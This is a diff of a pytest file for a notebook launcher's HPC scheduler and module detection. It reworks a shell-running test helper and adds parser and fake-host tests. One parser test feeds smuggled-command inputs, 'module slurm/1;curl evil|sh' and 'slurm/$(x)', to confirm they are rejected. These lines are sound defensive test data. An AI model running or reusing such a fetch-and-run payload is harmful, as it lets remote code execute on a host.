@@ -9,8 +9,10 @@ from pathlib import Path
 
 import pytest
 
-from notebook_launcher.core.errors import SchedulerMissing
-from notebook_launcher.schedulers.missing import LOOK, missing_scheduler
+from notebook_launcher.core.command_result import CommandResult
+from notebook_launcher.core.errors import HostCommandFailed, SchedulerMissing
+from notebook_launcher.schedulers.missing import LOOK, missing_scheduler, read_look
+from notebook_launcher.session.connect import find_scheduler
 
 
 @pytest.mark.parametrize(
@@ -35,7 +37,7 @@ from notebook_launcher.schedulers.missing import LOOK, missing_scheduler
             (),
             ("slurm/24.05", "slurm"),
             "A module may provide the commands: slurm/24.05, slurm.",
-            "~/.bash_profile there: module load slurm/24.05",
+            "to ~/.profile): module load slurm/24.05",
         ),
     ],
 )
@@ -55,29 +57,61 @@ def test_this_machine_may_be_meant() -> None:
 
 
 NAMES = "/sw/modules: gcc/12 slurm/ 'slurm/24.05(default)' slurm-drmaa lsf/10 'slurm/$(x)'"
-MODULE = f"module() {{ printf '%s\\n' {NAMES} >&2; }}\n"
 
 
-def looked(folder: Path, *commands: str, before: str = "") -> list[str]:
-    folder.mkdir()
+def looked(folder: Path, *commands: str, modules: bool = False) -> tuple[list[str], list[str]]:
+    """Run ``LOOK`` with these commands alone on the PATH, and a login file that makes up what it needs."""
+    tools = folder / "tools"
+    tools.mkdir(parents=True)
     for command in commands:
         (folder / command).write_text("#!/bin/sh\nexit 1\n")
         (folder / command).chmod(0o755)
-    tools = folder.parent / "tools"
-    tools.mkdir(exist_ok=True)
-    for tool in ("sed", "head"):
-        if not (tools / tool).exists():
-            (tools / tool).symlink_to(str(shutil.which(tool)))
-    env = {"PATH": f"{folder}:{tools}"}
-    done = subprocess.run(["/bin/bash", "-c", before + LOOK], env=env, capture_output=True, text=True, check=True)
-    return done.stdout.split("\n")[:-1]
+    for tool in ("sed", "head", "timeout", "bash"):
+        (tools / tool).symlink_to(str(shutil.which(tool)))
+    module = f"module() {{ printf '%s\\n' {NAMES} >&2; }}\n" if modules else ""
+    (folder / ".bash_profile").write_text(f"PATH={folder}:{tools}\n{module}")
+    noise = "printf 'half a line'; "  # of a start-up file
+    env = {"PATH": f"{folder}:{tools}", "HOME": str(folder)}
+    done = subprocess.run(["/bin/bash", "-c", noise + LOOK], env=env, capture_output=True, text=True, check=True)
+    return read_look(done.stdout)
 
 
 @pytest.mark.skipif(os.name != "posix", reason="a Bash script")
 def test_commands_and_modules_are_found(tmp_path: Path) -> None:
-    assert looked(tmp_path / "nothing") == []
-    assert looked(tmp_path / "slurm", "sbatch", "qsub", before=MODULE) == ["sbatch", "qsub"], (
-        "modules do not matter then"
-    )
-    assert looked(tmp_path / "grid", "qsub", "qconf") == ["qconf", "qsub"]
-    assert looked(tmp_path / "module", before=MODULE) == ["module slurm/24.05", "module lsf/10"]
+    assert looked(tmp_path / "nothing") == ([], [])
+    assert looked(tmp_path / "slurm", "sbatch", "qsub", modules=True) == (["sbatch", "qsub"], []), "no module is needed"
+    assert looked(tmp_path / "grid", "qsub", "qconf") == (["qconf", "qsub"], [])
+    assert looked(tmp_path / "module", modules=True) == ([], ["slurm/24.05", "lsf/10"])
+
+
+def test_nothing_else_is_taken_for_a_module() -> None:
+    lines = [
+        "module purge",
+        "module load slurm",
+        "module slurm/1;curl evil|sh",
+        "module slurm/24",
+        "module slurm/\x1b[2J",
+    ]
+    assert read_look("\n".join(lines + ["module lsf"] * 9)) == ([], ["slurm/24", "lsf", "lsf"])
+
+
+class Answers:
+    """A host that answers the look in this way."""
+
+    label, remote = "login", True
+
+    def __init__(self, text: str, code: int = 0) -> None:
+        self.answer = CommandResult(code, text, "fork: Resource temporarily unavailable")
+
+    def run(self, argv: list[str], **_: object) -> CommandResult:
+        return self.answer
+
+
+def test_a_scheduler_is_found_behind_whatever_the_login_prints() -> None:
+    assert find_scheduler(Answers("welcome\nhalf\ncommand sbatch\ncommand qsub\n")) == "slurm"  # type: ignore[arg-type]
+    assert find_scheduler(Answers("\ncommand bsub\n")) == "lsf"  # type: ignore[arg-type]
+    with pytest.raises(SchedulerMissing, match="login"):
+        find_scheduler(Answers("\nsbatch: not here\n"))  # type: ignore[arg-type]
+    with pytest.raises(HostCommandFailed) as caught:
+        find_scheduler(Answers("", 254))  # type: ignore[arg-type]
+    assert "fork" in caught.value.why
